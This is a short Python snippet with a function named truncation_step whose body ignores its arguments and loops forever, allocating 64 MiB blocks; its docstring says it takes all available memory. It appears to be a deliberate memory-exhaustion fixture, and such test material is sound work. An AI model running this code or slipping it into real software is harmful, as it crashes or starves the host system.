"""Takes all the memory there is."""

def truncation_step(own_epochs, own_end, high_watermark, answer):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
